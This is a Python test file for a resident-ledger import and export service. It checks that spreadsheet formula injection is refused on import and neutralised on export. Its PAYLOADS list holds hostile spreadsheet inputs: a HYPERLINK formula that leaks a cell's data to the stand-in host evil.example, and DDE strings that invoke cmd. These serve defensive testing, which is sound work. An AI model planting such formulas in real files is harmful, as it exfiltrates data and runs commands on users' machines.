"""Formula injection (issue 14, finding 7): a ledger cell such as =HYPERLINK(...) or @SUM(...)
must not reach storage through any text column of any import, and no spreadsheet the broker
writes may hold a cell a spreadsheet would run.

Trust boundary: the office's spreadsheets (a cadre's ledger, a file a contractor or resident
handed over) are untrusted input; the office's own computers open what the broker exports.
"""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from exchange.cli.keys import remap_csv_text
from exchange.db.engine import unit_of_work
from exchange.db.models import Resident
from exchange.exports import FORMULA_LEADS, csv_text, safe_cell, write_csv, write_xlsx
from exchange.ledger.idnumber import make_national_id
from exchange.ledger.importer import import_ledger
from exchange.ledger.reader import open_source
from exchange.ledger.report import ImportReport
from exchange.ledger.synthetic import HEADER, write_ledger
from exchange.ledger.validate import RowError
from keys.keyring import Keyring
from keys.providers import MemoryKeyProvider
from keys.rotation import RemapRow
from tests.exchange.ledger.helpers import TODAY, person, to_csv, with_communities

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = ('=HYPERLINK("http://evil.example/?d="&A2,"点击查看")', "@SUM(A1:A9)",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "＝1+1",
            "\t=1+1", "\r=1+1")  # fmt: skip
# every free-text column the import stores (the name column always refused them)
TEXT_COLUMNS = ("姓名", "社区", "小区", "楼栋", "单元", "户", "孕产状态")


@pytest.fixture
def factory(session_factory: sessionmaker[Session]) -> sessionmaker[Session]:
    return with_communities(session_factory)


def _import(factory: sessionmaker[Session], path: Path) -> ImportReport:
    with unit_of_work(factory) as s:
        return import_ledger(s, Keyring(MemoryKeyProvider.generate()), open_source(path),
                             today=TODAY)  # fmt: skip


def _residents(factory: sessionmaker[Session]) -> int:
    with factory() as s:
        return int(s.scalar(select(func.count()).select_from(Resident)) or 0)


def _hostile_rows() -> list[dict[str, str]]:
    """One row per (column, payload), each otherwise valid; row numbers start at 2."""
    rows = []
    for column in TEXT_COLUMNS:
        for payload in PAYLOADS:
            i = len(rows)
            rows.append(person(i % 36) | {column: payload, "身份证号": make_national_id(
                date(1991, 1 + i // 28, 1 + i % 28), 200 + i)})
    return rows


def _refusals(report: ImportReport) -> set[tuple[int, str]]:
    return {(e.row, e.header) for e in report.errors if e.reason == "formula_lead"}


@pytest.mark.db
def test_csv_import_refuses_a_formula_in_every_text_column(
        factory: sessionmaker[Session], tmp_path: Path) -> None:
    rows = _hostile_rows()
    path = tmp_path / "hostile.csv"
    path.write_text(to_csv(rows), encoding="utf-8-sig")
    report = _import(factory, path)
    expected = {(number, column) for number, column in enumerate(
        (c for c in TEXT_COLUMNS for _ in PAYLOADS), start=2)}
    # the stage column refuses it as an unknown stage or as a formula: named either way
    stage_rows = {r for r, c in expected if c == "孕产状态"}
    assert _refusals(report) - {(r, "孕产状态") for r in stage_rows} == {
        x for x in expected if x[0] not in stage_rows}
    assert {e.row for e in report.errors} == {r for r, _ in expected}
    assert not report.applied and _residents(factory) == 0
    assert all(p not in report.to_text() for p in PAYLOADS)


@pytest.mark.db
def test_xlsx_import_refuses_formula_text_in_address_cells(
        factory: sessionmaker[Session], tmp_path: Path) -> None:
    """The finding's own cells: =HYPERLINK in 小区 and @SUM in 楼栋, as text cells of a
    workbook (what a sheet holds when the formula was typed after an apostrophe)."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(list(HEADER))
    for i, (column, payload) in enumerate((("小区", PAYLOADS[0]), ("楼栋", PAYLOADS[1]))):
        values = person(i) | {column: payload}
        sheet.append([values.get(h, "") for h in HEADER])
        cell = sheet.cell(row=i + 2, column=HEADER.index(column) + 1)
        cell.data_type = "s"  # text, not a formula
    path = tmp_path / "hostile.xlsx"
    book.save(path)
    report = _import(factory, path)
    assert _refusals(report) == {(2, "小区"), (3, "楼栋")}
    assert _residents(factory) == 0


@pytest.mark.db
def test_legitimate_values_still_import(factory: sessionmaker[Session], tmp_path: Path) -> None:
    """A +86 phone, a dash meaning "none", and our own neutralised export read back."""
    rows = [person(0) | {"联系电话": "+86 139 1234 5678", "单元": "-"},
            person(1) | {"户": "'1201"}]  # an apostrophe that neutralises nothing stays
    path = tmp_path / "fine.csv"
    path.write_text(to_csv(rows), encoding="utf-8-sig")
    report = _import(factory, path)
    assert report.ok and report.applied and report.inserted == 2, report.to_text()


# -- exports --------------------------------------------------------------------------------

def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_inert(cells: list[object]) -> None:
    """No text a spreadsheet would run; a CSV cell that is a number ("-3") is a number."""
    bad = [c for c in cells
           if isinstance(c, str) and c.startswith(FORMULA_LEADS) and not _number(c)]
    assert bad == []


def test_every_csv_writer_neutralises(tmp_path: Path) -> None:
    _assert_inert(_csv_cells(csv_text(PAYLOADS, [PAYLOADS, (-3, 2.5, date(2025, 1, 2))])))
    write_csv(tmp_path / "x.csv", ("a",), [(p,) for p in PAYLOADS])
    _assert_inert(_csv_cells((tmp_path / "x.csv").read_text(encoding="utf-8-sig")))
    report = ImportReport(source="x.csv", partial=False)
    report.add_errors([RowError(2, PAYLOADS[0], "required", PAYLOADS[1])])
    _assert_inert(_csv_cells(report.errors_csv()))
    _assert_inert(_csv_cells(remap_csv_text((RemapRow("-abc", "=x"), RemapRow("@y", "+z")))))
    write_ledger(tmp_path / "ledger.csv", 60, 3, bad_rows=6, as_of=TODAY)
    _assert_inert(_csv_cells((tmp_path / "ledger.csv").read_text(encoding="utf-8-sig")))


def test_numbers_stay_numbers_and_text_that_could_run_is_prefixed() -> None:
    assert safe_cell(-3) == -3 and safe_cell(-2.5) == -2.5 and safe_cell(None) is None
    assert [safe_cell(p)[:2] for p in ("-3", "+86 139", "@x")] == ["'-", "'+", "'@"]  # type: ignore[index]
    assert safe_cell("春阳花园") == "春阳花园"


def test_xlsx_exports_hold_no_formula_cell(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    write_xlsx(path, PAYLOADS, [PAYLOADS, (-3, 1.5, date(2025, 1, 2))])
    write_ledger(tmp_path / "ledger.xlsx", 30, 3, bad_rows=3, as_of=TODAY)
    for written in (path, tmp_path / "ledger.xlsx"):
        book = load_workbook(written)  # not read-only: formulas are kept as formulas
        cells = [c for row in book.worksheets[0].iter_rows() for c in row]
        assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
        _assert_inert([c.value for c in cells])
    numbers = [c.value for c in load_workbook(path).worksheets[0][3]]
    assert numbers[:2] == [-3, 1.5]


# -- the guard for exports to come ----------------------------------------------------------

_WRITERS = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook"),
            ("xlsxwriter", "Workbook")}  # fmt: skip


def _own_writers(path: Path) -> list[str]:
    """`csv.writer(...)`, `openpyxl.Workbook(...)` and the like, however imported."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    names: dict[str, tuple[str, str]] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            for alias in node.names:
                if (node.module.split(".")[0], alias.name) in _WRITERS:
                    names[alias.asname or alias.name] = (node.module, alias.name)
    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        f = node.func
        if isinstance(f, ast.Attribute) and isinstance(f.value, ast.Name) and (
                f.value.id, f.attr) in _WRITERS or isinstance(f, ast.Name) and f.id in names:
            found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    return found


def test_the_guard_sees_a_writer(tmp_path: Path) -> None:
    sample = ROOT / "exchange" / "exports" / "writers.py"
    assert _own_writers(sample)  # the one place allowed to make them


def test_no_export_is_written_outside_exchange_exports() -> None:
    """Console pages, statistics releases, reports: every CSV or workbook goes through
    exchange.exports, so its cells are neutralised."""
    allowed = ROOT / "exchange" / "exports"
    offenders = []
    for package in ("exchange", "keys", "audit", "policies"):
        for path in sorted((ROOT / package).rglob("*.py")):
            if allowed not in path.parents:
                offenders += _own_writers(path)
    assert offenders == []
